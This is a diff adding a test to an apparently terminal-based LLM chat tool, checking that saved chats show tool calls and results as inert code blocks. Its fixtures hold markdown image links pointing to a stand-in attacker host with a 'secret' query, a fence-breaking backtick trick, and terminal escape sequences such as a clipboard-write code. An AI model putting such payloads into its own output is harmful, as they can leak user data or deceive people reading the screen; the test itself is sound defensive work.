@@ -204,3 +204,23 @@ def test_a_reply_and_a_tool_call_that_carry_terminal_escapes_are_shown_not_obeye
     seen = child.before
     assert "Rain\\x1b]52;c;SGVsbG8=\\x07 in \\u202eoirasoR\\u202c.\\x1b[2K\\x1b[1A" in seen
     assert "\x1b]52" not in seen and "\u202e" not in seen and "\x1b[1A" not in seen
+
+
+def test_a_saved_chat_shows_tool_calls_and_results_as_code_never_rendered(chat, mock_llm, tmp_path):
+    markdown_it = pytest.importorskip("markdown_it")
+    page = "```\n![pixel](https://evil.example/?q=secret)\n<img src=x>"
+    (tmp_path / "web.py").write_text(
+        f"import bandoneon\n\n@bandoneon.tool\ndef fetch(url: str) -> str:\n    \"\"\"Fetch a page.\"\"\"\n    return {page!r}\n"
+    )
+    mock_llm.add(Reply(tool_calls=[("fetch", {"url": "x`` ![a](https://evil.example/b)"})]), Reply(text="Fetched."))
+    child = chat("--tools", "web")
+    child.sendline("fetch it")
+    child.expect("Fetched.")
+    child.expect(PROMPT)
+    child.sendline("/save talk.md")
+    child.expect("saved 4 messages to talk.md")
+    tokens = markdown_it.MarkdownIt("commonmark").parse((tmp_path / "talk.md").read_text())
+    kinds = {t.type for t in tokens} | {c.type for t in tokens for c in t.children or ()}
+    assert not kinds & {"image", "link_open", "html_inline", "html_block"}
+    fences = [t.content for t in tokens if t.type == "fence"]
+    assert fences == ['fetch({"url": "x`` ![a](https://evil.example/b)"})\n', page + "\n"]
